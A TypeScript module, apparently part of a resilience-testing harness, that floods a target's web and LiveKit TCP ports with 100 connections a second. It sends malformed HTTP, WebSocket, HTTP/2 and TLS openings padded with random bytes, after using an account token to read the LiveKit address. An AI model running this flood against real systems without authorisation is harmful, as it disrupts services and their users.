import { randomBytes, randomInt } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget } from '../attack';

const perSecond = 100;
const beginnings = [
  '',
  'GET / HTTP/1.1\r\nHost: a\r\n',
  'POST /api/v1/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 4000000000\r\n\r\n',
  'GET /cable HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ',
  'GET /rtc HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\x16\x03\x01',
];

/** The port of LiveKit's signalling, as any account may read it. */
async function readLivekitAddress({ baseUrl, token }: AttackTarget): Promise<URL> {
  const response = await fetch(`${baseUrl}/api/v1/events`, { headers: { authorization: `Bearer ${token}` } });
  const { data }: { data: { id: string }[] } = await response.json();
  const event = await fetch(`${baseUrl}/api/v1/events/${data[0]?.id}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const { data: answer }: { data: { attributes: { livekit_url: string } } } = await event.json();
  return new URL(answer.attributes.livekit_url);
}

/** Bytes of chance at both public TCP ports, by themselves and after the beginning of what is understood there. */
export const tcpGarbage: Attack = {
  name: `${perSecond} connections a second with random bytes, at the web's and LiveKit's TCP ports`,
  async run(target, signal) {
    const addresses = [new URL(target.baseUrl), await readLivekitAddress(target)];
    for (let count = 0; !signal.aborted; count++) {
      const { hostname, port } = addresses[count % addresses.length] ?? new URL(target.baseUrl);
      const socket = connect(Number(port), hostname);
      // Ended by the other side is what is expected.
      socket.on('error', () => undefined);
      socket.write(beginnings[count % beginnings.length] ?? '');
      socket.write(randomBytes(randomInt(1, 4_000)));
      setTimeout(() => socket.destroy(), randomInt(0, 2_000));
      await sleep(1_000 / perSecond);
    }
  },
};
